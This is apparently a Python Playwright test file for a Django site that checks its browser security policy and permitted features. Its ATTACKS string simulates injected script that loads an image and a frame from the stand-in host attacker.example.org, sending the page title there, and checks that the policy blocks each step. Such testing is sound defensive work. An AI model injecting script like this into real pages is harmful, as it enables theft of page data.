"""What pages may load and do, as a browser holds them to it.

Whatever a browser complains of fails the test: see `browse`. The public pages are in
`test_reading.py`.
"""

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from playwright.sync_api import expect

from tests.browser.test_account_pages import addresses as pages_of_accounts
from tests.browser.test_staff_pages import addresses as pages_of_staff
from tests.pages import address

pytestmark = [
    pytest.mark.django_db(transaction=True),
    # Django's own field of the password asks for a variable that it does not set.
    pytest.mark.ignore_template_errors,
]

VIOLATIONS = """
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) =>
        window.violations.push(event.effectiveDirective));
"""
ATTACKS = """async () => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.head.append(script);
    const picture = new Image();
    picture.src = "https://attacker.example.org/?" + document.title;
    const frame = document.createElement("iframe");
    frame.src = "https://attacker.example.org/";
    document.body.append(picture, frame);
    document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>x</p>");
    await fetch("https://attacker.example.org/").catch(() => {});
    return window.ran ?? false;
}"""


def test_no_page_of_staff_or_of_an_account_breaks_the_security_policy(
    world, browse, log_in
):
    page = browse(reverse("account_login"))
    log_in(page)
    account = User.objects.get(username="admin")
    paths = [*pages_of_staff(world), *pages_of_accounts(account), reverse("log_list")]
    # Nobody helps with an account of his own.
    paths = [path for path in paths if "/help/" not in path]
    assert len(paths) > 40

    statuses = {}
    for path in paths:
        statuses[path] = page.goto(path).status
        page.wait_for_load_state("networkidle")

    assert {path: code for path, code in statuses.items() if code != 200} == {}


def test_what_got_into_a_page_runs_nothing_and_sends_nothing_away(world, browse):
    page = browse(address("home"))
    page.evaluate(VIOLATIONS)

    ran = page.evaluate(ATTACKS)

    assert ran is False
    # The policy forbids what Playwright would look again with.
    for _ in range(300):
        if page.evaluate("window.violations.length") >= 5:
            break
        page.wait_for_timeout(100)
    assert set(page.evaluate("window.violations")) == {
        *("script-src-elem", "img-src", "frame-src", "style-src-attr", "connect-src")
    }
    assert browse.complaints
    browse.complaints.clear()


@pytest.mark.parametrize("name", ["home", "api"])
def test_a_page_may_use_a_passkey_and_copy_a_link_and_no_other_power(
    world, browse, name
):
    page = browse(address(name))
    expect(page.locator("h1")).to_be_visible()

    powers = page.evaluate("document.featurePolicy.allowedFeatures()")

    assert {power for power in powers if not power.startswith("ch-")} <= {
        *("publickey-credentials-create", "publickey-credentials-get"),
        "clipboard-write",
        # They tell nothing, and reach nothing beside the page itself.
        *("aria-notify", "cross-origin-isolated", "deferred-fetch", "unload"),
        *("deferred-fetch-minimal", "interest-cohort"),
        "media-playback-while-not-visible",
    }
